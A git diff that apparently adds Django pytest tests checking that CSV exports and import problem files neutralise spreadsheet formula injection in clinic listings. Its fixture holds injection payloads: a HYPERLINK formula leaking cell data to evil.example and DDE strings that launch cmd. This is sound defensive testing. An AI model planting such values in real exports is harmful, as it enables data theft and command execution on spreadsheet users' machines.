@@ -5,7 +5,7 @@ import io
 from pathlib import Path
 
 import pytest
-from django.core.management import call_command
+from django.core.management import CommandError, call_command
 from django.urls import reverse
 
 from clinics.importing import export_clinics, header, import_clinics
@@ -249,3 +249,116 @@ def test_moderators_see_the_bulk_tools_on_the_changelist(admin_client):
     assert reverse("admin:clinics_clinic_duplicates") in response.content.decode()
     actions = dict(response.context["action_form"].fields["action"].choices)
     assert "export_as_csv" in actions and "merge_two_selected" in actions
+
+
+# Formulas (issue 12.8) --------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def make_hostile_listing():
+    """A published clinic whose free text a spreadsheet would run as formulas."""
+    clinic = ClinicFactory(
+        name=HYPERLINK, slug="hostile", email="-2+3@example.org", website="https://ok.example"
+    )
+    location = LocationFactory(
+        clinic=clinic,
+        name="@SUM(1+1)*cmd|' /C calc'!A0",
+        address_line1="+cmd|' /C calc'!A0",
+        address_line2="'=already quoted",
+        city="-2+3",
+        phone="+1 503-555-0101",
+        latitude=45.52,
+        longitude=-122.68,
+    )
+    OfferingFactory(location=location, route=route("iv"), price_min_usd=400, price_max_usd=400)
+    location.languages.set([language("en")])
+    return clinic
+
+
+def test_export_neutralises_formulas_in_free_text_but_not_numbers():
+    make_hostile_listing()
+
+    row = next(csv.DictReader(io.StringIO(export_text())))
+
+    assert row["clinic_name"] == "'" + HYPERLINK
+    assert row["email"] == "'-2+3@example.org"
+    assert row["location_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["address_line1"] == "'+cmd|' /C calc'!A0"
+    # An apostrophe of the data itself gets one more, so the import gives it back.
+    assert row["address_line2"] == "''=already quoted"
+    assert row["city"] == "'-2+3"
+    # Numbers and phone numbers are not free text: they stay as they are, + and - included.
+    assert row["longitude"] == "-122.68"
+    assert row["phone"] == "+1 503-555-0101"
+    assert row["price_iv"] == "400"
+
+
+def test_neutralised_export_imports_back_unchanged():
+    make_hostile_listing()
+    before = listings_snapshot()
+    exported = export_text()
+
+    Clinic.objects.all().delete()
+    report = import_clinics(exported.encode(), source_name="export")
+
+    assert report.ok, report.lines()
+    assert listings_snapshot() == before
+    assert Clinic.objects.get().name == HYPERLINK
+    assert export_text() == exported
+
+
+def test_download_and_admin_export_neutralise_formulas(client, admin_client, settings, tmp_path):
+    settings.DOWNLOADS_DIR = tmp_path
+    clinic = make_hostile_listing()
+
+    download = b"".join(client.get("/downloads/csv").streaming_content).decode()
+    admin = admin_client.post(
+        reverse("admin:clinics_clinic_changelist"),
+        {"action": "export_as_csv", "_selected_action": [clinic.pk]},
+    )
+
+    for text in (download, admin.content.decode()):
+        row = next(csv.DictReader(io.StringIO(text)))
+        assert row["clinic_name"] == "'" + HYPERLINK
+        assert row["address_line1"] == "'+cmd|' /C calc'!A0"
+
+
+def test_export_command_neutralises_formulas():
+    make_hostile_listing()
+    out = io.StringIO()
+
+    call_command("export_clinics", "-", stdout=out)
+
+    assert next(csv.DictReader(io.StringIO(out.getvalue())))["clinic_name"] == "'" + HYPERLINK
+
+
+def test_problem_file_neutralises_refused_cells_and_imports_back(tmp_path):
+    rows = [
+        "clinic_id,clinic_name,location_id,address_line1,city,state,postal_code,routes,phone",
+        f'c1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",l1,1 Main St,Portland,=1+2,97205,iv,'
+        "=cmd|' /C calc'!A0",
+    ]
+    source = tmp_path / "in.csv"
+    source.write_text("\n".join(rows))
+    report = import_clinics(source, source_name="partner", skip_invalid=True)
+    path = tmp_path / "problems.csv"
+    with pytest.raises(CommandError):
+        call_command(
+            "import_clinics",
+            str(source),
+            "--source",
+            "partner",
+            "--skip-invalid",
+            "--report",
+            str(path),
+            stdout=io.StringIO(),
+            stderr=io.StringIO(),
+        )
+
+    problem = next(csv.DictReader(io.StringIO(path.read_text())))
+    assert problem["clinic_name"] == "'" + HYPERLINK
+    assert problem["state"] == "'=1+2"
+    assert problem["phone"] == "'=cmd|' /C calc'!A0"
+    again = import_clinics(path.read_bytes(), source_name="partner", skip_invalid=True)
+    assert [str(e) for e in again.errors] == [str(e) for e in report.errors]
